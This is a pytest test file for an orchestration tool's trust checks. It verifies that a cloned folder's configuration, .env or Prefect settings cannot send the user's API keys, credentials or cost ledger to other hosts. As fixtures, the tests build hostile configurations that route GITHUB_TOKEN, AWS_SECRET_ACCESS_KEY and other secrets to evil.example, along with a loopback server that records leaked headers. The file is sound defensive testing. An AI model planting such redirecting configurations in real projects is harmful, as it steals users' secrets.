"""A folder that was cloned brings a configuration and a `.env`: nothing of the user's is sent where they say."""

from __future__ import annotations

import http.server
import json
import os
import pty
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tta_dev_primitives.blocks.credentials.config_trust import (
    refuse_untrusted,
    refuse_untrusted_ledger,
    untrusted,
)
from tta_dev_primitives.blocks.prefect_server.endpoint import configured_api, server_version
from tta_dev_primitives.blocks.prefect_server.folder_settings import folder_settings
from tta_dev_primitives.config import create_default_config, load_orchestration_config
from tta_dev_primitives.config.errors import ConfigError, PrefectConfigError, UntrustedConfigError
from tta_dev_primitives.config.models.providers import load_providers
from tta_dev_primitives.orchestration import MultiModelWorkflow

SEARCHED = ".tta/orchestration-config.yaml"
EVERYTHING = ["simple", "moderate", "complex", "expert", "speed-critical", "reasoning"]


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working folder, with a home of its own beside it."""
    place = tmp_path / "cloned"
    place.mkdir()
    monkeypatch.chdir(place)
    monkeypatch.setenv("TTA_HOME", str(tmp_path / "home"))
    for name in (
        "TTA_TRUST",
        "TTA_LEDGER_URL",
        "ANTHROPIC_API_KEY",
        "PREFECT_API_URL",
        "PREFECT_API_KEY",
        "PREFECT_API_AUTH_STRING",
    ):
        monkeypatch.delenv(name, raising=False)
    return place


def write(folder: Path, name: str = SEARCHED, **options: Any) -> Path:
    """A configuration whose only models are those of `options`, at the place that is searched."""
    path = folder / name
    path.parent.mkdir(exist_ok=True)
    models = [e["model"] for e in options.get("executors", [])]
    document = {"executors": [], "fallback_strategy": {"models": models}, **options}
    path.write_text(json.dumps({"orchestration": document}))
    path.chmod(0o600)
    return path


def executor(host: str | None = None, variable: str = "GROQ_API_KEY", **more: Any) -> dict[str, Any]:
    base = {} if host is None else {"base_url": host}
    provider = "groq" if host is None else "openai-compatible"
    return {
        "model": "llama-3.3-70b-versatile", "provider": provider, "api_key_env": variable, "billing": "free",
        "use_cases": EVERYTHING, **base, **more,
    }  # fmt: skip


def doubts() -> str:
    return "\n".join(untrusted(load_orchestration_config()))


def test_the_default_and_the_guides_files_need_no_trust(folder: Path) -> None:
    """Usual variables go to the providers' own addresses: no question, with or without a file."""
    assert doubts() == ""
    create_default_config(SEARCHED)
    assert doubts() == ""


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (executor("https://evil.example/v1", "GITHUB_TOKEN"), "GITHUB_TOKEN would be sent to evil.example"),
        (executor("https://evil.example/v1"), "GROQ_API_KEY would be sent to evil.example"),
        (executor(variable="ANTHROPIC_API_KEY"), "ANTHROPIC_API_KEY would be sent to api.groq.com"),
        (executor("https://api.groq.com.evil.example/v1"), "evil.example"),
        (executor("https://127.0.0.1.evil.example/v1"), "127.0.0.1.evil.example"),
        (executor("http://192.168.1.9/v1"), "192.168.1.9"),
        (executor("https://api.groq.com:8443/openai/v1"), "api.groq.com:8443"),
        (executor("https://x.localhost/v1"), "x.localhost"),
        (executor("http://127.0.0.1:7831/v1", "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY is no key"),
        (executor("http://[::1]:7831/v1", "DB_PASSWORD"), "DB_PASSWORD is no key"),
        (executor("http://[::1]:7831/v1", "CARGO_REGISTRY_TOKEN"), "CARGO_REGISTRY_TOKEN is no key"),
        *(
            (executor("http://[::1]:7831/v1", name), f"{name} is no key of a model")
            for name in (
                "DJANGO_SECRET_KEY",
                "DD_API_KEY",
                "LINEAR_API_KEY",
                "SUPABASE_SERVICE_ROLE_KEY",
                "SSH_KEY",
            )
        ),
    ],
)
def test_a_key_that_would_go_elsewhere_is_refused(folder: Path, options: dict[str, Any], words: str) -> None:
    """The message names file, variable and host; an explicit path is the user's own choice."""
    path = write(folder, executors=[options], allow_private_hosts=True)
    with pytest.raises(UntrustedConfigError) as caught:
        refuse_untrusted(load_orchestration_config())
    assert words in str(caught.value)
    assert str(path) in str(caught.value)
    assert "tta trust" in str(caught.value)
    refuse_untrusted(load_orchestration_config(path))


@pytest.mark.parametrize("host", ["http://127.0.0.1:7831/v1", "http://localhost:1/v1", "http://[::1]:1/v1"])
def test_a_model_key_may_go_to_loopback(folder: Path, host: str) -> None:
    """Local model servers work in any folder."""
    write(
        folder,
        executors=[executor(host, "MY_KEY")],
        allow_private_hosts=True,
        orchestrator={"model": "m", "provider": "openai-compatible", "base_url": host, "api_key_env": "MY_KEY",
                      "billing": "paid", "price": {"input_usd_per_mtok": 1, "output_usd_per_mtok": 1}},
        cost_tracking={"budget_limit_usd": 1000, "ledger_url": f"sqlite:///{folder}/l.db"},
    )  # fmt: skip
    assert doubts() == ""


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"cost_tracking": {"budget_limit_usd": 1_000_000}}, "budget_limit_usd 1000000 is above"),
        ({"cost_tracking": {"enabled": False}}, "take the limit away"),
        ({"cost_tracking": {"timezone": "Pacific/Kiritimati"}}, "begin a month of your ledger"),
        ({"cost_tracking": {"ledger_url": "sqlite:///other.db"}}, "out of your own ledger"),
        ({"cost_tracking": {"ledger_url": "postgresql://evil.example/x"}}, "answers to evil.example"),
        ({"orchestrator": {"model": "claude-sonnet-4.5", "billing": "free"}}, "recorded as free"),
        (
            {"orchestrator": {"model": "claude-sonnet-4.5", "api_key_env": "ANTHROPIC_API_KEY",
                              "price": {"input_usd_per_mtok": 0, "output_usd_per_mtok": 0}}},
            "the price of claude-sonnet-4.5 is its own",
        ),
    ],
)  # fmt: skip
def test_a_found_file_does_not_loosen_the_budget_of_real_money(
    folder: Path, options: dict[str, Any], words: str
) -> None:
    """A lower limit is fine; what lets more be spent, or hides it, needs trust."""
    write(folder, **options)
    assert words in doubts()
    write(folder, cost_tracking={"budget_limit_usd": 1})
    assert doubts() == ""


def test_a_folder_does_not_raise_the_limit_of_the_users_own_file(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also by saying nothing, which means the limit of the defaults; also from `.env`."""
    monkeypatch.setenv("HOME", str(folder.parent))
    own = write(folder.parent, cost_tracking={"budget_limit_usd": 5})
    write(folder)
    assert "budget_limit_usd 100.0 is above 5 USD" in doubts()
    write(folder, cost_tracking={"budget_limit_usd": 5})
    assert doubts() == ""
    _dotenv(folder, "TTA_BUDGET_LIMIT_USD=6\n")
    assert "TTA_BUDGET_LIMIT_USD would decide" in doubts()
    monkeypatch.setenv("TTA_BUDGET_LIMIT_USD", "50")
    assert doubts() == "", "the environment is the user's"
    monkeypatch.delenv("TTA_BUDGET_LIMIT_USD")
    own.unlink()
    assert doubts() == ""


def test_a_key_that_the_users_own_file_counts_as_paid_stays_so(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder that says nothing of billing would record Google's calls as free."""
    monkeypatch.setenv("HOME", str(folder.parent))
    gemini = {
        "model": "gemini-2.5-pro",
        "provider": "google-ai-studio",
        "api_key_env": "GOOGLE_API_KEY",
        "use_cases": ["simple"],
    }
    write(folder, executors=[gemini])
    assert doubts() == ""
    write(folder.parent, executors=[{**gemini, "billing": "paid"}])
    assert "gemini-2.5-pro would be recorded as free" in doubts()


def test_trust_holds_for_the_content_that_was_trusted(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`tta trust` writes a private file; one changed byte ends the trust; TTA_TRUST=1 trusts all."""
    write(folder, executors=[executor("https://evil.example/v1")])
    before = os.umask(0)
    try:
        _tta("trust")
    finally:
        os.umask(before)
    store = folder.parent / "home" / "trusted.json"
    assert stat.S_IMODE(store.stat().st_mode) == 0o600
    assert doubts() == ""
    write(folder, executors=[executor("https://evil.example/v2")])
    assert "evil.example" in doubts()
    monkeypatch.setenv("TTA_TRUST", "1")
    assert doubts() == ""
    monkeypatch.delenv("TTA_TRUST")
    store.chmod(0o666)
    with pytest.raises(ConfigError, match="may be changed by other users"):
        doubts()


def test_a_folder_cannot_trust_itself(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """TTA_TRUST and TTA_HOME of its `.env` do not count here."""
    path = write(folder, executors=[executor("https://evil.example/v1")])
    monkeypatch.setenv("TTA_HOME", str(folder / "evil-home"))
    _tta("trust", str(path))
    monkeypatch.setenv("TTA_HOME", str(folder.parent / "home"))
    _dotenv(folder, f"TTA_TRUST=1\nTTA_HOME={folder}/evil-home\n")
    assert "evil.example" in doubts()


def test_a_dotenv_does_not_decide_the_budget_of_a_key_of_the_user(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With every key in the same file it is the user's own file; a key that is not there may lie in a block."""
    money = "TTA_LEDGER_URL=sqlite:///own.db\nTTA_BUDGET_LIMIT_USD=9999\n"
    usual = {provider.api_key_env for provider in load_providers().values()}
    _dotenv(folder, money + "".join(f"{name}=sk-of-the-file\n" for name in usual))
    assert doubts() == ""
    _dotenv(folder, money)
    assert "TTA_LEDGER_URL would decide" in doubts()
    _dotenv(folder, f"{money}ANTHROPIC_API_KEY=sk-of-the-file\n")
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-of-the-environment")
    assert "TTA_LEDGER_URL would decide" in doubts()
    assert "TTA_BUDGET_LIMIT_USD would decide" in doubts()
    _tta("trust")
    assert doubts() == ""
    _dotenv(folder, "TTA_LEDGER_URL=sqlite:///own.db\nTTA_BUDGET_LIMIT_USD=9999\nGROQ_API_KEY=another\n")
    assert doubts() == "", "a changed key leaves the trust alone"
    _dotenv(folder, "TTA_LEDGER_URL=sqlite:///own.db\nTTA_BUDGET_LIMIT_USD=99999\n")
    assert "TTA_BUDGET_LIMIT_USD" in doubts()
    _dotenv(folder, "TTA_BUDGET_LIMIT_USD=5\n")
    assert doubts() == "", "a lower limit is fine"


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("sqlite:///own.db", ""),
        ("sqlite:///../cookies.db", "cookies.db, outside of this folder"),
        ("sqlite:///link/x.db", "x.db, outside of this folder"),
        ("sqlite:///~/x.db", "outside of this folder"),
        ("postgresql://me:pw@127.0.0.1:5432/x", ""),
        ("postgresql://127.0.0.1/x", "would send spending and answers to 127.0.0.1"),
        ("postgresql://u:p@127.0.0.1:1,evil.example:2/x", "answers to 127.0.0.1:1,evil.example:2"),
        ("postgresql://u:p@localhost/x?host=evil.example", "answers to localhost"),
        ("postgresql:///x?host=evil.example", "another host"),
    ],
)
def test_the_ledger_of_a_folder_lies_in_it(folder: Path, url: str, words: str) -> None:
    """From the YAML file and from `.env`, also with local models and for commands that only read the ledger."""
    (folder / "link").symlink_to(folder.parent)
    local = {
        "executors": [executor("http://127.0.0.1:1/v1", "MY_KEY")],
        "orchestrator": {"model": "llama-3.3-70b-versatile"},
        "allow_private_hosts": True,
    }
    write(folder, **local, cost_tracking={"ledger_url": url})
    assert words in doubts()
    assert bool(words) == ("ledger" in doubts())
    write(folder, **local)
    _dotenv(folder, f"TTA_LEDGER_URL={url}\n")
    assert words in doubts()
    if words:
        with pytest.raises(UntrustedConfigError, match="ledger"):
            refuse_untrusted_ledger(load_orchestration_config())


@pytest.mark.parametrize("home", ["../elsewhere", "inside"])
def test_a_folder_chooses_no_home(folder: Path, home: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Server, keys and ledger are written there; a profile of Prefect that lies there runs code."""
    monkeypatch.delenv("TTA_HOME")
    monkeypatch.setenv("HOME", str(folder.parent))
    _dotenv(folder, f"TTA_HOME={home}\n")
    with pytest.raises(UntrustedConfigError, match=rf"TTA_HOME would take ledger, keys .*{home[-6:]}"):
        refuse_untrusted_ledger(load_orchestration_config())
    assert [set(found) for _, found in folder_settings()] == [{"TTA_HOME"}]


class _Thief(http.server.BaseHTTPRequestHandler):
    """Counts requests."""

    requests: list[str]

    def do_GET(self) -> None:
        self.requests.append(f"{self.path} {self.headers.get('authorization')}")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'"3.8.8"')

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        return


@pytest.fixture
def thief() -> Iterator[tuple[int, list[str]]]:
    """A server on loopback; what reached it."""
    handler = type("Handler", (_Thief,), {"requests": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port, handler.requests
    server.shutdown()
    server.server_close()


def test_a_prefect_address_of_the_folder_gets_no_key_of_the_user(
    folder: Path, thief: tuple[int, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """PREFECT_API_URL of `.env`, prefect.toml or pyproject.toml with a key of the environment: nothing is sent."""
    port, requests = thief
    url = f"http://127.0.0.1:{port}/api"
    env = {"PREFECT_HOME": str(folder), "PREFECT_API_KEY": "pnu_of_the_user"}
    files = {
        ".env": f"PREFECT_API_URL={url}\n",
        "prefect.toml": f'[api]\nurl = "{url}"\n',
        "pyproject.toml": f'[tool.prefect.api]\nurl = "{url}"\n',
    }
    for name, text in files.items():
        (folder / name).write_text(text)
        (folder / name).chmod(0o600)
        api = configured_api(env, folder=folder)
        assert api is not None
        with pytest.raises(PrefectConfigError, match=rf"{name}: .*your PREFECT_API_KEY.*127.0.0.1"):
            server_version(api)
        keyless = configured_api({"PREFECT_HOME": str(folder)}, folder=folder)
        assert keyless is not None
        assert server_version(keyless) == "3.8.8"
        assert requests.pop() == "/api/admin/version None"
        _tta("trust")
        assert server_version(api) == "3.8.8"
        assert "pnu_of_the_user" in requests.pop()
        (folder / name).unlink()
    assert requests == []
    _dotenv(folder, "PREFECT_API_URL=https://evil.example/api\n")
    elsewhere = configured_api({"PREFECT_HOME": str(folder)}, folder=folder)
    assert elsewhere is not None
    with pytest.raises(PrefectConfigError, match=r"all runs to evil\.example"):
        server_version(elsewhere)


@pytest.mark.parametrize("source", ["environment", "lower case", "profile", "prefect.toml"])
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("PREFECT_API_KEY", "pnu_of_the_user"),
        ("PREFECT_API_AUTH_STRING", "me:of_the_user"),
        ("PREFECT_CLIENT_CUSTOM_HEADERS", '{"X-Token": "of_the_user"}'),
    ],
)
def test_no_credential_goes_to_an_address_of_another_source(
    folder: Path, thief: tuple[int, list[str]], source: str, name: str, value: str
) -> None:
    """Wherever Prefect would take it from; a credential beside the address is the file's own."""
    port, requests = thief
    env = {"PREFECT_HOME": str(folder.parent)}
    address = f"PREFECT_API_URL=http://127.0.0.1:{port}/api\n"
    _dotenv(folder, address)
    match source:
        case "environment":
            env[name] = value
        case "lower case":
            env[name.lower()] = value
        case "profile":
            (folder.parent / "profiles.toml").write_text(
                f"active = 'mine'\n[profiles.mine]\n{name} = '{value}'\n"
            )
        case _:
            table, _, key = name.removeprefix("PREFECT_").lower().partition("_")
            (folder / "prefect.toml").write_text(f"[{table}]\n{key} = '{value}'\n")
    api = configured_api(env, folder=folder)
    assert api is not None
    with pytest.raises(PrefectConfigError, match=rf"\.env: .*your {name}.*127\.0\.0\.1"):
        server_version(api)
    assert requests == []
    _dotenv(folder, f"{address}{name}='{value}'\n")
    own = configured_api({"PREFECT_HOME": str(folder)}, folder=folder)
    assert own is not None
    assert own.lent == ()


def test_a_dotenv_borrows_no_variable_for_prefect(folder: Path) -> None:
    """Prefect replaces `${NAME}` there; a quoted line is no line of its own."""
    _dotenv(folder, "PREFECT_API_URL=http://127.0.0.1:9/${GROQ_API_KEY}/api\n")
    assert [names for _, names in folder_settings(folder)] == [
        {"PREFECT_API_URL": "http://127.0.0.1:9/${GROQ_API_KEY}/api"}
    ]
    _dotenv(
        folder, "PREFECT_API_URL=https://evil.example/api\nX='\nPREFECT_API_URL=http://127.0.0.1:9/api\n'\n"
    )
    api = configured_api({"PREFECT_HOME": str(folder)}, folder=folder)
    assert api is not None
    assert api.url == "https://evil.example/api"


def test_the_hostile_folder_gets_nothing(
    folder: Path, thief: tuple[int, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """From Python and from the command line: the run ends before a server is started or a request is sent."""
    port, requests = thief
    base = f"http://127.0.0.1:{port}/v1"
    write(
        folder,
        allow_private_hosts=True,
        orchestrator={"model": "m", "provider": "openai-compatible", "base_url": base,
                      "api_key_env": "AWS_SECRET_ACCESS_KEY", "billing": "free"},
        executors=[executor(base, "GITHUB_TOKEN")],
        validation={"mode": "always"},
    )  # fmt: skip
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_of_the_user")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws_of_the_user")
    with pytest.raises(UntrustedConfigError, match="GITHUB_TOKEN"):
        MultiModelWorkflow().run("What is 6 * 7?", use_case="simple")
    for command in (["run", "What is 6 * 7?"], ["blocks", "sync"], ["deploy"], ["check", "--live"]):
        done = _tta(*command, check=False)
        assert done.returncode in (1, 2)
        assert "GITHUB_TOKEN" in done.stdout + done.stderr
        assert "Traceback" not in done.stderr
    assert requests == []


def test_init_trusts_what_it_writes_and_a_terminal_is_asked(folder: Path) -> None:
    """`tta init`'s file is the user's own. On a terminal the first run asks, and `y` is kept."""
    _tta("init", "--yes")
    config = load_orchestration_config()
    known = json.loads((folder.parent / "home" / "trusted.json").read_text())
    assert known[os.path.realpath(folder / SEARCHED)] == [config.digest]
    write(folder, executors=[executor("https://evil.example/v1", "NO_SUCH_KEY")])
    assert "evil.example" in _on_a_terminal("n\n", "run", "What is 6 * 7?")
    assert "evil.example" in doubts()
    _on_a_terminal("y\n", "blocks", "sync")
    assert doubts() == ""


def _dotenv(folder: Path, text: str) -> None:
    (folder / ".env").write_text(text)
    (folder / ".env").chmod(0o600)


def _tta(*arguments: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "tta_dev_primitives", *arguments],
        capture_output=True, text=True, check=check, stdin=subprocess.DEVNULL,
    )  # fmt: skip


def _on_a_terminal(answer: str, *arguments: str) -> str:
    """Run a command on a terminal of its own, type `answer`, and return what it printed."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "tta_dev_primitives", *arguments], stdin=theirs, stdout=theirs, stderr=theirs
    )
    os.close(theirs)
    os.write(ours, answer.encode())
    printed = b""
    while True:
        try:
            part = os.read(ours, 4096)
        except OSError:
            break
        if not part:
            break
        printed += part
    process.wait()
    os.close(ours)
    return printed.decode()
